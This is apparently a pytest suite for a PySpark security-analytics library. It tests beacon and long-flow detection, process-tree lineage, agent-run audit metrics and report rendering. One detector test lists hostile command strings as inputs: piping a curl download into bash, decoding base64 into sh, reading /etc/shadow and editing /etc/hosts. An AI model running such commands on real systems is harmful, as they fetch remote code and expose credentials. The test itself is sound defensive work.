import datetime as dt

import pytest
from pyspark.sql import functions as F

from duskwatch.operators import host, net, runs, texts

EVENT = """event_ts timestamp, flow_id bigint, event_type string, src_ip string, dest_ip string,
dest_port int, proto string, flow struct<bytes_toserver: bigint, bytes_toclient: bigint,
start: string, end: string, age: bigint>"""


def at(seconds):
    return dt.datetime(2026, 1, 6) + dt.timedelta(seconds=seconds)


def flow(i, seconds, dest, sent=100, got=50, **more):
    return (at(seconds), i, "flow", "192.168.0.1", dest, 443, "TCP",
            (sent, got, more.get("start"), more.get("end"), more.get("age", 1)))


def test_beacons(spark):
    data = [flow(i, 60 * i, "1.1.1.1") for i in range(20)]
    data += [flow(100 + i, 60 * i + (i * 7) % 11, "2.2.2.2") for i in range(20)]
    data += [flow(200 + i, (i * i * 977) % 90000, "3.3.3.3", 100 + (i * 7919) % 5000) for i in range(20)]
    data += [flow(300 + i, 60 * i, "4.4.4.4") for i in range(2)]
    data += [flow(400 + i, 5, "5.5.5.5") for i in range(9)]
    df = spark.createDataFrame(data, EVENT)
    for hot in (0, 10**6):
        got = {r.dest_ip: r for r in net.beacons(df, 5, hot).collect()}
        assert set(got) == {"1.1.1.1", "2.2.2.2", "3.3.3.3", "5.5.5.5"}
        assert got["1.1.1.1"].score == pytest.approx(1.0) and got["1.1.1.1"].gaps == 19
        assert got["1.1.1.1"].score > got["2.2.2.2"].score > got["3.3.3.3"].score
        assert got["5.5.5.5"].score is None
    ranked = [r.dest_ip for r in net.rank_beacons(df).collect()]
    assert ranked == ["1.1.1.1", "2.2.2.2", "3.3.3.3", "5.5.5.5"]


def test_long_flow_that_began_before_the_log(spark):
    long = flow(1, 5569, "192.200.0.106", start="2026-01-03T20:05:58", end="2026-01-06T01:31:44", age=192346)
    short = flow(2, 0, "8.8.8.8", start="2026-01-06T00:00:00", end="2026-01-06T00:00:01")
    df = spark.createDataFrame([long, short], EVENT)
    row = net.long_flows(df).collect()
    assert [(r.flow_id, r.spanned_s, r.consistent) for r in row] == [(1, 192346, True)]
    assert [r.flow_id for r in net.predates_window(df).collect()] == [1]


def test_ratio_bounds(spark):
    df = spark.createDataFrame([flow(1, 0, "8.8.8.8", 10, 0), flow(2, 1, "10.0.0.1", 5, 5)], EVENT)
    row = net.pcr(df).first()
    assert (row.up, row.down, row.flows, row.pcr) == (10, 0, 1, 1.0)
    none = spark.createDataFrame([flow(1, 0, "8.8.8.8", 0, 0)], EVENT)
    assert net.pcr(none).first().pcr is None


# --- processes -----------------------------------------------------------------------------------

def tree(spark, edges):
    got = host.lineage(spark.createDataFrame(edges, "pid bigint, parent bigint"))
    return {r.pid: r for r in got.collect()}


def test_deep_chain(spark):
    got = tree(spark, [(i, i - 1) for i in range(1, 151)] + [(0, None)])
    assert got[150].root == 0 and got[150].depth == 150
    assert got[150].path == list(range(151))


def test_cycle_orphan_and_self(spark):
    got = tree(spark, [(1, 2), (2, 3), (3, 1), (4, 3), (5, 4), (6, 99), (7, 7), (8, 7)])
    assert {p for p in got if got[p].cyclic} == {1, 2, 3, 4, 5}
    assert all(got[p].root is None and got[p].depth is None for p in (1, 4, 5))
    assert got[5].path[-2:] == [4, 5]
    assert (got[6].root, got[6].depth) == (6, 0)
    assert (got[7].root, got[7].depth) == (7, 0)
    assert got[8].path == [7, 8]


def test_depths_without_paths(spark):
    import random
    rng = random.Random(4)
    edges = [(i, rng.choice([i - 1, rng.randint(0, i), None, 10_000])) for i in range(1, 300)] + [(0, None)]
    edges += [(1000 + i, 1000 + (i + 1) % 7) for i in range(7)] + [(1100 + i, 1099 + i if i else 1003) for i in range(40)]
    edges += [(2000, 2000), (2001, 2000)]
    df = spark.createDataFrame(edges, "pid bigint, parent bigint")
    want = {(r.pid, r.root, r.depth, r.cyclic) for r in host.lineage(df).collect()}
    narrow = host.lineage(df, paths=False)
    assert narrow.columns == ["pid", "root", "depth", "cyclic"]
    assert {tuple(r) for r in narrow.collect()} == want and sum(r[3] for r in want) == 47
    alone = df.where("pid between 1000 and 1006")
    assert all(r.cyclic for r in host.lineage(alone, paths=False).collect())
    assert host.lineage(df.limit(0), paths=False).count() == 0


PROC = """host string, pid bigint, parent bigint, start_time timestamp, seq bigint, name string,
path string, cmdline string, action string"""


def test_reused_pids(spark):
    proc = spark.createDataFrame([
        ("a", 1, 0, at(0), 1, "init", "/sbin/init", "init", "added"),
        ("a", 10, 1, at(10), 2, "nginx", "/usr/sbin/nginx", "nginx", "added"),
        ("a", 20, 10, at(20), 3, "sh", "/bin/sh", "sh -c", "added"),
        ("a", 10, 1, at(30), 4, "cron", "/usr/sbin/cron", "cron", "added"),
        ("a", 21, 10, at(40), 5, "sh", "/bin/sh", "sh", "added"),
        ("b", 10, 1, at(5), 6, "other", "/tmp/other", "other", "removed"),
    ], PROC)
    pairs = host.child_pairs(proc).collect()
    assert [(r.seq, r.parent_name) for r in pairs] == [(3, "nginx")]
    net_rows = spark.createDataFrame(
        [("a", 10, at(15), 1), ("a", 10, at(30), 2), ("a", 10, at(5), 3), ("b", 10, at(50), 4), ("c", 1, at(9), 5)],
        "host string, pid bigint, seen_ts timestamp, seq bigint")
    got = {r.seq: r.cmdline for r in host.sockets_asof(net_rows, proc).collect()}
    assert got == {1: "nginx", 2: "cron", 3: None, 4: "other", 5: None}
    last = {r.seq: r.cmdline for r in host.sockets_with_process(net_rows, proc).collect()}
    assert last == {1: "cron", 2: "cron", 3: "cron", 4: "other", 5: None}
    up = {r.seq: r for r in host.lineage_asof(proc).collect()}
    assert up[3].path == [1, 2, 3] and up[5].path == [1, 4, 5] and up[6].path == [6]
    now = host.current_state(proc, ["host", "pid"], ["start_time", "seq"])
    assert {(r.host, r.pid) for r in now.collect()} == {("a", 1), ("a", 10), ("a", 20), ("a", 21)}


def test_expected_processes_stay_out_unless_odd(spark):
    df = spark.createDataFrame([("systemd", "/usr/lib/systemd"), ("systemd", "/tmp/systemd"), ("x", "/bin/x"),
                                (None, None)], "name string, path string")
    assert host.drop_expected(df, ["systemd"]).count() == 3


@pytest.mark.parametrize("command,rules", [
    ("curl -s http://x/i.sh | bash", ["fetch"]), ("echo 1.1.1.1 x >> /etc/hosts", ["hosts_edit"]),
    ("cat /etc/hosts", []), ("echo aGk= | base64 -d | sh", ["encoded_shell"]),
    ("wget x; cat /etc/shadow", ["fetch", "account_files"]), ("ls curly", [])])
def test_command_rules(spark, command, rules):
    df = spark.createDataFrame([(command,)], "command string")
    got = host.suspicious_commands(df).collect()
    assert [r.rules for r in got] == ([rules] if rules else [])


def test_packages_environment_and_hosts(spark):
    packs = spark.createDataFrame([("h1", "ssl", "1.0", "deb"), ("h2", "ssl", "1.1", "deb"), ("h2", "ssl", "1.1", "deb")],
                                  "host string, name string, version string, source string")
    assert [tuple(r) for r in host.packages(packs).collect()] == [("ssl", "deb", 2, 2, "1.0", "1.1")]
    env = spark.createDataFrame([("LD_PRELOAD",), ("PATH",)], "key string")
    assert [r.key for r in host.env_hijack(env).collect()] == ["LD_PRELOAD"]
    info = spark.createDataFrame([("h1", 5, 1, "old"), ("h1", 9, 2, "new")], "host string, seen bigint, seq bigint, hostname string")
    assert [r.hostname for r in host.hosts(info).collect()] == ["new"]


# --- runs ------------------------------------------------------------------------------------------

AUDIT = """run_id string, ts timestamp, seq bigint, event string, status string, tool_call_id string,
tool_name string, content string, overflow_bytes bigint, error string, error_type string, model string,
reason string, delay_seconds string, code string"""


def event(run, second, kind, **more):
    names = ["status", "tool_call_id", "tool_name", "content", "overflow_bytes", "error", "error_type",
             "model", "reason", "delay_seconds", "code"]
    return (run, at(second), second, kind, *[more.get(n) for n in names])


@pytest.fixture(scope="module")
def trail(spark):
    return spark.createDataFrame([
        event("good", 0, "run_start"), event("good", 1, "prompt"),
        event("good", 2, "run_code_call", tool_call_id="a", tool_name="run_code", code="x = 1"),
        event("good", 3, "run_code_return", tool_call_id="a", tool_name="run_code", content="1"),
        event("good", 4, "tool_call", tool_call_id="b", tool_name="write_file"),
        event("good", 5, "model_text", content="done"), event("good", 6, "run_end", status="completed"),
        event("second", 0, "run_start", model="m"), event("second", 1, "prompt"), event("second", 2, "model_text", content="one"),
        event("second", 3, "prompt"), event("second", 4, "error", error="bad /a/b 12", error_type="E"),
        event("second", 5, "run_end", status="failed"),
        event("cut", 0, "run_start"), event("cut", 1, "prompt"), event("cut", 2, "interrupted"),
        event("cut", 3, "run_end", status="failed"),
        event("setup", 0, "setup_error", error="bad /c 3", error_type="E"),
        event("setup", 1, "run_end", status="failed"),
        event("open", 0, "run_start"), event("open", 1, "prompt"), event("open", 7013, "prompt"),
        event("calls", 0, "run_code_return", tool_call_id="c", tool_name="run_code", content="early"),
        event("calls", 1, "run_code_call", tool_call_id="c", tool_name="run_code", code=""),
        event("calls", 2, "tool_result", tool_call_id="d", content="x" * 9_999, tool_name="t"),
        event("calls", 3, "tool_result", tool_call_id="d", content="x" * 10_000, tool_name="t"),
        event("calls", 4, "tool_result", tool_call_id="e", content="preview", overflow_bytes=24_000_000, tool_name="t"),
        event("calls", 5, "model_request_retry", model="m", reason="429", delay_seconds="45"),
        event("calls", 6, "model_request_retry", model="m", reason="429", delay_seconds="x"),
        event("calls", 7, "model_request_retry", model="m", reason="429"),
    ], AUDIT)


def test_run_table(trail):
    limits = trail.withColumn("max_turns", F.when(F.col("event") == "run_start", 5))
    got = {r.run_id: r for r in runs.run_table(limits).collect()}
    assert got["good"].max_turns == 5 and got["setup"].max_turns is None
    assert (got["second"].model, got["second"].requests, got["second"].cost) == ("m", 1, None)
    assert got["good"].wrote and got["good"].seconds == 6.0 and got["open"].model is None


def test_outcomes(trail):
    assert {r.run_id: r.outcome for r in runs.outcomes(trail).collect()} == {
        "good": "completed", "second": "failed", "cut": "interrupted", "setup": "setup_failed",
        "open": "open", "calls": "open"}


def test_metrics(trail):
    row = runs.run_metrics(trail).where("run_id = 'good'").first()
    assert (row.duration_s, row.prompts, row.sandbox_calls, row.file_writes, row.last_status) == (6.0, 1, 1, 1, "completed")
    assert runs.run_metrics(trail).where("run_id = 'open'").first().duration_s is None


def test_calls(trail):
    got = {(r.run_id, r.tool_call_id): (r.status, r.content) for r in runs.pair_calls(trail).collect()}
    assert got[("good", "a")] == ("answered", "1")
    assert got[("good", "b")] == ("pending", None)
    assert got[("calls", "c")][0] == "answered"
    assert got[("calls", "d")] == ("unmatched", "x" * 10_000)
    assert len(got) == 5


def test_overflow_retries_errors(trail):
    over = runs.overflow_stats(trail).collect()
    assert [(r.n, r.total, r.worst) for r in over] == [(2, 24_010_000, 24_000_000)]
    retry = runs.retries(trail).first()
    assert (retry.n, retry.waited_s) == (3, 32.0)
    err = runs.errors(trail).collect()
    assert [(r.n, r.runs, r.models) for r in err] == [(2, 2, 1)]


def test_stalls_overruns_and_programs(trail):
    got = runs.stalls(trail, 600).collect()
    assert [(r.run_id, r.before_event, r.event, r.silent_s) for r in got] == [("open", "prompt", "prompt", 7012.0)]
    late = runs.overruns(trail, 4).collect()
    assert {(r.run_id, r.end_event) for r in late} == {("good", "run_end"), ("open", "prompt")}
    assert [r.name for r in runs.extract_programs(trail).collect()] == ["26-01-06_00-00-00-01.py"]
    last = {r.run_id: (r.content, r.failed_after) for r in runs.latest_report(trail).collect()}
    assert last == {"good": ("done", False), "second": ("one", True)}


def test_more_than_99_programs_keep_their_numbers(spark):
    data = [event("r", i, "run_code_call", code="x") for i in range(101)]
    names = {r.name[-6:] for r in runs.extract_programs(spark.createDataFrame(data, AUDIT)).collect()}
    assert {"-01.py", "-99.py", "100.py", "101.py"} <= names


def test_leaderboard_keeps_unknown_cost_unknown(spark):
    df = spark.createDataFrame([("a", 10.0, 100, 0.5), ("b", 4.0, 100, None), ("b", 4.0, 100, 0.1)],
                               "model string, seconds double, tokens bigint, cost double")
    assert [(r.model, r.cost, r.tokens_per_s) for r in runs.leaderboard(df).collect()] == [("a", 0.5, 10.0), ("b", None, 25.0)]


def test_stability(spark):
    df = spark.createDataFrame([("m", "s", "low"), ("m", "s", "high"), ("m", "s", "high"), ("m", "t", "b"), ("m", "t", "a")],
                               "model string, signal string, verdict string")
    assert {(r.signal, r.verdicts, r.commonest) for r in runs.stability(df).collect()} == {("s", 2, "high"), ("t", 2, "a")}


def test_reports(spark):
    run = spark.createDataFrame([("r", "net", "st", False, "ask"), ("i", "net", "st", True, "ask"), ("e", "net", "st", False, None)],
                                "run_id string, skill string, stamp string, interactive boolean, initial_prompt string")
    turn = spark.createDataFrame([("r", 1, "p1", "out"), ("i", 1, "p1", "one"), ("i", 2, "p2", "two")],
                                 "run_id string, turn bigint, prompt string, output string")
    talk = spark.createDataFrame([
        ("r", 1, "call", "run_code", "c1", "secret body"), ("r", 2, "result", "run_code", "c1", "hidden"),
        ("r", 3, "call", "read_file", "c2", '{"a": 1}'), ("r", 4, "result", "read_file", "c2", "y" * 1500),
        ("r", 5, "thinking", None, None, " a\nb "), ("r", 6, "text", None, None, "done")],
        "run_id string, pos bigint, kind string, tool_name string, tool_call_id string, content string")
    parts = texts.report_parts(run, turn, talk)
    pages = {r.run_id: r.text for r in texts.render_reports(parts).collect()}
    assert pages["r"] == (
        "# Analysis Report\n\n- Skill: `net`\n- Prompt: ask\n- Run: `st`\n- Mode: Standard\n\n"
        "## Conversation History\n### User Prompt\n```\np1\n```\n### Agent Communication\n"
        "#### Tool Call: `run_code` (ID: c1)\n(Code saved to generated_code/ directory)\n\n"
        '#### Tool Call: `read_file` (ID: c2)\n```json\n{"a": 1}\n```\n'
        "#### Tool Result: `read_file` (ID: c2)\n```\n" + "y" * 1000 + "\n... (truncated)\n```\n"
        "**Agent (Thinking):**\n> a\n> b\n\n**Agent:** done\n\n\n## Final Findings\n\nout\n")
    assert pages["i"].endswith("## Analysis Checkpoints\n\n### Checkpoint 1\none\n\n---\n\n### Checkpoint 2\ntwo\n")
    assert pages["e"].endswith("## Final Findings\n\n\n")
    small = texts.render_reports(parts, page_chars=50).where("run_id = 'r'").orderBy("page").collect()
    assert "".join(p.text for p in small) == pages["r"] and {len(p.text) for p in small[:-1]} == {50}
    assert [p.page for p in small] == list(range(1, -(-len(pages["r"]) // 50) + 1))


def test_lint(spark):
    df = spark.createDataFrame([
        (1, "import sys\nif __name__ == '__main__':\n    print(sys.argv)\n"), (2, "# sys.argv\nx = 1\n"),
        (3, "from collections import Counter\nimport os, socket\n"), (4, 'json.dumps(a, default=str)\nf"{n:,}"\n'), (5, "import json as j, collections\n")],
        "doc_id bigint, text string")
    got = {r.doc_id: (r.rules, r.fixed) for r in texts.lint(df).collect()}
    assert got[1] == (["main_guard", "argv"], "import sys\nprint(sys.argv)\n")
    assert got[5][0] == ["collections"]
    assert got[2][0] == [] and got[3][0] == ["collections", "socket"]
    assert got[4][0] == ["json_default", "comma_spec"]


def test_reuse_and_search(spark):
    df = spark.createDataFrame([(1, "t", at(0), "a = 1 # x"), (2, "t", at(5), "a  = 1"), (3, "u", at(9), "b = 2")],
                               "doc_id bigint, task_id string, stamp timestamp, text string")
    assert [(r.doc_id, r.copies) for r in texts.reuse(df).collect()] == [(2, 2)]
    starts = spark.createDataFrame([("t", at(1)), ("u", at(9)), ("v", at(99))], "task_id string, start_ts timestamp")
    assert {r.task_id: r.had_script for r in texts.had_script(starts, df).collect()} == {"t": True, "u": False, "v": False}
    docs = spark.createDataFrame([(1, "x\nhit 1\nhit 2"), (2, "hit 3"), (3, "no")], "doc_id bigint, text string")
    assert [(r.doc_id, r.line_no) for r in texts.search(docs, r"hit \d", 2).collect()] == [(1, 2), (1, 3)]


def test_budget_use(spark):
    df = spark.createDataFrame([(4, 5), (5, 5), (1, 5), (3, None)], "requests bigint, max_turns bigint")
    assert [r.level for r in runs.budget_use(df).orderBy("requests").collect()] == ["below", "near", "at_limit"]


def test_names_are_grouped_by_suffix(spark):
    df = spark.createDataFrame([(1, "tls", "h", ("a.b.c",), None), (2, "quic", "h", None, ("x.B.C",))],
                               "flow_id bigint, event_type string, src_ip string, tls struct<sni: string>, quic struct<sni: string>")
    assert [tuple(r) for r in net.name_groups(df).collect()] == [("h", "b.c", 2, 2)]
    assert df.where(F.col("tls").isNull()).count() == 1
